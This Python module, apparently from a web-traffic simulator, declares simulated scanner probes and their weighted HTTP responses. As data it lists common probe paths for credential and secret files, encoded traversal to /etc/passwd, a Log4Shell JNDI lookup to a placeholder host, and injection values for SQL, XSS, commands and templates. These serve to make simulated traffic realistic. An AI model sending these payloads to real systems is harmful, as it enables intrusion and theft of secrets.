"""Scanners and attacks: paths, and values that they write into parameters."""

from __future__ import annotations

from random import Random

from pipelines.simulator.vocabulary.operation import Operation, Parameter, make_responses
from pipelines.simulator.vocabulary.values import Values
from pipelines.simulator.vocabulary.web_conventions import Audience, declare_resource

# Paths that scanners request from any new host within hours. Some look like APIs; a request for one does not mean
# that it exists.
_PROBE_TEXT = """
    wp-login.php wp-admin/setup.php xmlrpc.php .env .env.bak api/.env .git/config .aws/credentials
    phpmyadmin/index.php pma admin/config.php cgi-bin/test.cgi actuator/env actuator/heapdump api/v1/users
    api/v1/pods api/v2/admin graphql v1/graphql api/swagger.json solr/admin/info/system manager/html
    boaform/admin/formLogin vendor/phpunit/eval-stdin.php server-status console/ login.action
    owa/auth/x.js autodiscover/autodiscover.xml .DS_Store backup.sql db.zip config.json users.json
    api/jsonws/invoke rest/api/latest/serverInfo remote/fgt_lang ecp/default.js
    index.php%3Fid=1%27%20OR%201=1 ..%2f..%2fetc/passwd %c0%ae%c0%ae/etc/passwd
    api/v1/..%2f..%2fproc/self/environ ${jndi:ldap://x.example/a} shell?cmd=id _ignition/execute-solution
"""
_PROBES = tuple(_PROBE_TEXT.split())
# Values that attackers write into parameters.
ATTACK_VALUES = (
    "' OR '1'='1", "1;DROP TABLE x--", "../../../../etc/passwd", "<script>alert(1)</script>",
    "${jndi:ldap://x.example/a}",
    "-1 UNION SELECT NULL,NULL", "|id", "%00", "A" * 300, "{{7*7}}",
)  # fmt: skip
_AUDIENCE: Audience = (("scanner", 1.0),)


def declare_scans(rng: Random, error_media: str) -> list[Operation]:
    """Declares probes of a site whose errors have the media type `error_media`.

    It is JSON on many API hosts.
    """
    pool = Parameter("path", "path", Values("path", tuple(rng.sample(_PROBES, 25))))
    refused = [
        (0.7, 404, error_media, 400),
        (0.18, 403, rng.choice((error_media, "text/html")), 500),
        (0.05, 301, "", 0),
    ]
    caught = make_responses(
        [
            *refused,
            (rng.choice((0.0, 0.02, 0.1)), 200, "text/html", 2000),
            (0.03, 400, "text/html", 150),
            (0.02, 401, error_media, 100),
        ]
    )
    media = rng.choice(("application/x-www-form-urlencoded", "application/json", ""))
    return [
        declare_resource("scan", "/{path}", caught, pool, audience=_AUDIENCE, weight=8),
        declare_resource(
            "scan",
            "/{path}",
            caught,
            pool,
            method="POST",
            audience=_AUDIENCE,
            weight=2,
            request_media=media,
        ),
        declare_resource("scan", "/{path}", caught, pool, method="HEAD", audience=_AUDIENCE, weight=0.5),
    ]
